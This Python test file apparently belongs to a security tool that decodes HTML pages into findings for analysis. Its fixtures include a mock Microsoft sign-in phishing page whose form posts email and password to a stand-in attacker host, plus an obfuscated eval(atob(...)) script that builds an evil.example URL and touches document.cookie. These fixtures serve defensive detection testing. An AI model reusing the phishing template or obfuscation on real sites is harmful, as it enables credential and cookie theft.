"""decoded.v1 on HTML: title, visible text, forms (password fields), links, scripts and frames."""

from __future__ import annotations

from distilsec.data.views import get_view
from distilsec.data.views.decoded import SEPARATOR
from distilsec.data.views.html import html_findings, is_html

decoded = get_view("decoded.v1")

PHISH = (
    "<!DOCTYPE html><html><head><title>Sign in to your account</title>"
    '<link rel="stylesheet" href="https://cdn.example/site.css"><script src="https://evil.example/k.js"></script>'
    "<style>body{font:12px}</style><script>var s='<p>not visible</p>';</script></head>"
    "<body><img src=logo.png><h1>Microsoft</h1><p>Your password expires today. Verify &amp; keep it.</p>"
    '<form method="POST" action="https://collector.evil.example/next.php">'
    '<input type="email" name="loginfmt" placeholder="Email"><input type="password" name="passwd">'
    '<input type="hidden" name="ctx" value="x"><button type="submit">Next</button></form>'
    '<a href="https://login.microsoftonline.com/help">Help</a><iframe src="http://track.evil/p" width=0></iframe>'
    "</body></html>"
)


def test_phishing_form_sections() -> None:
    sections = dict(html_findings(PHISH))
    assert sections == {
        "html-title": "Sign in to your account",
        "html-text": "Microsoft Your password expires today. Verify & keep it. Next Help",
        "html-forms": "form post https://collector.evil.example/next.php ; email:loginfmt ; password:passwd ; "
        "hidden:ctx ; submit",
        "html-links": "https://login.microsoftonline.com/help",
        "html-scripts": "https://evil.example/k.js",
        "html-iframes": "http://track.evil/p",
    }
    view = decoded(PHISH)
    assert view.startswith(PHISH + SEPARATOR)
    assert "not visible" not in view[len(PHISH) :] and "font:12px" not in view[len(PHISH) :]
    lines = view[len(PHISH) + len(SEPARATOR) :].splitlines()
    assert [line.split(":", 1)[0] for line in lines][:6] == [
        "html-title", "html-text", "html-forms", "html-links", "html-scripts", "html-iframes"
    ]  # fmt: skip


def test_what_counts_as_html() -> None:
    assert is_html(PHISH) and is_html('<div><a href="x">y</a></div>') and is_html("text <FORM action=x>")
    for text in ["<Esc>:wq<Enter>", "sed -i 's/<title>/x/g' a.html", "ls <files.txt", "a < b", "", "plain"]:
        assert not is_html(text)


def test_obfuscated_script_in_a_page_is_decoded_too() -> None:
    page = (
        "<html><body><script>var u = 'ht'+'tp://ev'+'il.example/x';"
        " eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script></body></html>"
    )
    kinds = dict(item.split(": ", 1) for item in decoded(page)[len(page) + len(SEPARATOR) :].splitlines())
    assert kinds["joined"] == "http://evil.example/x"
    assert kinds["base64"] == "alert(document.cookie)"


def test_broken_markup_never_raises() -> None:
    for page in ["<html><form action=", "<html><body><<<>>></", "<html>" + "<div>" * 50_000, "<html><![CDATA[x"]:
        assert decoded(page).startswith(page)
